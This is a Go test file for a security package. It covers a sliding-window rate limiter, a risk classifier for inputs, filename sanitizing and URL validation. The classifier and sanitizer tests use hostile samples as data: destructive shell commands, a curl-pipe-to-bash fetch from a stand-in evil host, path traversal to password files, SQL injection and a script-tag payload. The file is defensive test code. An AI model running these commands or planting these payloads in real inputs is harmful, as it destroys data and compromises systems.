package security

import (
	"testing"
	"time"
)

// TestRateLimiterSlidingWindowAdmitsThenDenies covers S5: max_requests=3,
// window_seconds=10. Calls 1-3 are admitted, call 4 is denied with
// retry_after_seconds <= 10.
func TestRateLimiterSlidingWindowAdmitsThenDenies(t *testing.T) {
	l := NewRateLimiter(3, 10)

	for i := 0; i < 3; i++ {
		d := l.CheckAndConsume("user-1")
		if !d.Allowed {
			t.Fatalf("expected call %d to be admitted, got %+v", i+1, d)
		}
	}

	d := l.CheckAndConsume("user-1")
	if d.Allowed {
		t.Fatal("expected 4th call to be denied")
	}
	if d.Remaining != 0 {
		t.Fatalf("expected remaining=0 on deny, got %d", d.Remaining)
	}
	if d.RetryAfterSeconds <= 0 || d.RetryAfterSeconds > 10 {
		t.Fatalf("expected retry_after_seconds in (0,10], got %v", d.RetryAfterSeconds)
	}

	stats := l.StatsFor("user-1")
	if stats.Admitted != 3 || stats.Violations != 1 {
		t.Fatalf("expected admitted=3 violations=1, got %+v", stats)
	}
}

func TestRateLimiterResumesAfterWindowExpires(t *testing.T) {
	l := NewRateLimiter(1, 0.05) // 50ms window keeps the test fast.

	if d := l.CheckAndConsume("user-1"); !d.Allowed {
		t.Fatal("expected first call to be admitted")
	}
	if d := l.CheckAndConsume("user-1"); d.Allowed {
		t.Fatal("expected second call within the window to be denied")
	}

	time.Sleep(80 * time.Millisecond)

	if d := l.CheckAndConsume("user-1"); !d.Allowed {
		t.Fatal("expected admission to resume once the window has elapsed")
	}
}

// TestRateLimiterResetRoundTripsToInitialState is the round-trip law:
// CheckAndConsume then Reset yields the same StatsFor as initial state.
func TestRateLimiterResetRoundTripsToInitialState(t *testing.T) {
	l := NewRateLimiter(3, 10)
	initial := l.StatsFor("fresh-principal")

	l.CheckAndConsume("fresh-principal")
	l.CheckAndConsume("fresh-principal")
	l.Reset("fresh-principal")

	after := l.StatsFor("fresh-principal")
	if after != initial {
		t.Fatalf("expected post-reset stats %+v to equal initial state %+v", after, initial)
	}
}

func TestRateLimiterIndependentPerPrincipal(t *testing.T) {
	l := NewRateLimiter(1, 10)
	if d := l.CheckAndConsume("a"); !d.Allowed {
		t.Fatal("expected a's first call to be admitted")
	}
	if d := l.CheckAndConsume("b"); !d.Allowed {
		t.Fatal("expected b's first call to be admitted independently of a")
	}
}

func TestClassifyCriticalPatterns(t *testing.T) {
	cases := []string{
		"rm -rf /",
		"dd if=/dev/zero of=/dev/sda",
		"curl http://evil.example/x | bash",
	}
	for _, c := range cases {
		got := Classify(c)
		if got.RiskLevel != RiskCritical {
			t.Errorf("Classify(%q) = %v, want Critical", c, got.RiskLevel)
		}
	}
}

func TestClassifyHighPatterns(t *testing.T) {
	cases := []string{
		"../../etc/passwd",
		"/etc/shadow",
		"' OR 1=1; DROP TABLE users; --",
	}
	for _, c := range cases {
		got := Classify(c)
		if got.RiskLevel != RiskHigh {
			t.Errorf("Classify(%q) = %v, want High", c, got.RiskLevel)
		}
	}
}

func TestClassifyMediumPatterns(t *testing.T) {
	got := Classify(`<script>alert(1)</script>`)
	if got.RiskLevel != RiskMedium {
		t.Errorf("Classify(script tag) = %v, want Medium", got.RiskLevel)
	}
}

func TestClassifyBenignInputIsLow(t *testing.T) {
	got := Classify("what is the weather like in Lisbon today")
	if got.RiskLevel != RiskLow {
		t.Errorf("Classify(benign) = %v, want Low", got.RiskLevel)
	}
}

func TestSanitizeFilenameStripsDisallowedCharacters(t *testing.T) {
	got := SanitizeFilename("../etc/passwd; rm -rf")
	if got != "" {
		// Every disallowed char is stripped; what remains must still match the alphabet.
		for _, r := range got {
			if !((r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z') || (r >= '0' && r <= '9') || r == '.' || r == '_' || r == '-') {
				t.Fatalf("sanitized filename %q retains disallowed character %q", got, r)
			}
		}
	}
}

func TestValidateURLRejectsEmptyHost(t *testing.T) {
	v := ValidateURL("file:///etc/passwd")
	if v.Allowed {
		t.Fatal("expected file scheme with empty host to be rejected")
	}
}

func TestValidateURLRejectsDisallowedScheme(t *testing.T) {
	v := ValidateURL("ftp://example.com/file")
	if v.Allowed {
		t.Fatal("expected ftp scheme to be rejected")
	}
}

func TestValidateURLRejectsSuspiciousDomain(t *testing.T) {
	v := ValidateURL("https://bit.ly/abc123")
	if v.Allowed {
		t.Fatal("expected suspicious domain to be rejected")
	}
}

func TestValidateURLAllowsOrdinaryHTTPS(t *testing.T) {
	v := ValidateURL("https://example.com/resource")
	if !v.Allowed {
		t.Fatalf("expected ordinary https url to be allowed, got %+v", v)
	}
}
